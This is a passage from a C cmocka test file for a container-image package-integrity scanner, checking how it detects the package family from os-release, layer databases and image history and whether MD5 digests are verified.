    char sums[128], h[33];
    size_t i;

    (void)state;
    md5_hex("x\n", h);
    snprintf(sums, sizeof(sums), "%s  usr/bin/x\n", h);
    for (i = 0; i < sizeof(osrel) / sizeof(osrel[0]); i++) {
        img_init(&im, 1);
        add_file(&im, 0, "etc/os-release", osrel[i], 0);
        add_file(&im, 0, "usr/bin/x", "x\n", 0755);
        add_file(&im, 0, "var/lib/dpkg/status.d/x", "Package: x\nVersion: 1\n", 0);
        add_file(&im, 0, "var/lib/dpkg/status.d/x.md5sums", sums, 0);
        img_finish(&im);
        assert_int_equal(nfindings(&im), 0);
        if (i < 3)
            assert_int_equal(nproblems(&im, "1 package files were not checked: their MD5"), 1);
        else
            assert_int_equal(nproblems(&im, NULL), 0);
        img_free(&im);
    }
}

/* Which digests a file gets is decided by its own layer's pass (what it
 * has told so far) and the image's history, never by what another layer's
 * pass, running in parallel, has seen: the rpm database in layer 0 says
 * nothing to layer 1, whichever pass runs first, so libmulti's copy in
 * layer 1 gets every digest and its SHA-1 is checked. */
static void
test_family_per_layer(void **state)
{
    size_t len;
    char *db = feed_read_path(MOAT_TEST_DATA "/rpm/Packages-le-4096", &len);
    struct layer_entry *le;
    struct image im;
    int order;

    (void)state;
    if (!db)
        fail_msg("cannot read tests/data/rpm/Packages-le-4096");
    for (order = 0; order < 2; order++) {
        img_init(&im, 2);
        if (order)
            add_file(&im, 1, "usr/lib64/libmulti.so.1", "a\n", 0755);
        le = push(&im, 0, "var/lib/rpm/Packages", ENTRY_REG);
        le->size = len;
        dispatch(&im, 0, le, db, len);
        add_file(&im, 0, "etc/hello.conf", "greeting=hi\n", 0644);
        add_file(&im, 0, "usr/bin/hello", "#!/bin/sh\necho hello\n", 0755);
        add_link(&im, 0, "usr/bin/hi", "hello", ENTRY_SYMLINK);
        add_file(&im, 0, "usr/lib64/libmulti.so.1", "a\n", 0755);
        add_file(&im, 0, "usr/share/hello/data.txt", "data\n", 0644);
        if (!order)
            add_file(&im, 1, "usr/lib64/libmulti.so.1", "a\n", 0755);
        img_finish(&im);
        assert_int_equal(nfindings(&im), 0);
        assert_int_equal(nproblems(&im, NULL), 0);
        img_free(&im);
    }
    free(db);
}

/* The image's history tells the family before any layer pass: whole
 * command words only ("rpmdb" and "adapter" name nothing). */
static void
test_family_from_history(void **state)
{
    static const struct {
        const char *history;
        int md5_unchecked;
    } cases[] = {
        {"RUN /bin/sh -c apk add --no-cache x", 1},
        {"/bin/sh -c dnf -y install x && dnf clean all", 1},
        {"RUN /bin/sh -c apt-get update && apt-get install -y x", 0},
        {"debootstrap --variant=minbase bookworm", 0},
        {"RUN /bin/sh -c echo adapter rpmdb apk-tools", 0},
        {"ADD file:0123abcd in / ", 0},
    };
    struct image im;
    char sums[128], h[33];
    size_t i;

    (void)state;
    md5_hex("x\n", h);
    snprintf(sums, sizeof(sums), "%s  usr/bin/x\n", h);
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        img_init_history(&im, 1, cases[i].history);
        add_file(&im, 0, "usr/bin/x", "x\n", 0755);
        add_file(&im, 0, "var/lib/dpkg/status.d/x", "Package: x\nVersion: 1\n", 0);
        add_file(&im, 0, "var/lib/dpkg/status.d/x.md5sums", sums, 0);
        img_finish(&im);
        assert_int_equal(nfindings(&im), 0);
        assert_int_equal(nproblems(&im, "1 package files were not checked: their MD5"),
                         cases[i].md5_unchecked);
        assert_int_equal(nproblems(&im, NULL), cases[i].md5_unchecked);
        img_free(&im);
    }
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_md5sums_parse),
        cmocka_unit_test(test_conffiles_parse),
        cmocka_unit_test(test_diversions_parse),
        cmocka_unit_test(test_dpkg_clean),
        cmocka_unit_test(test_dpkg_tampered),
        cmocka_unit_test(test_dpkg_script_and_hardlink),
        cmocka_unit_test(test_dpkg_multi_owner),
        cmocka_unit_test(test_distroless),
        cmocka_unit_test(test_off),
        cmocka_unit_test(test_many_files),
        cmocka_unit_test(test_apk),
        cmocka_unit_test(test_rpm),
        cmocka_unit_test(test_unhashed_tree),
        cmocka_unit_test(test_family_from_os_release),
        cmocka_unit_test(test_family_per_layer),
        cmocka_unit_test(test_family_from_history),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
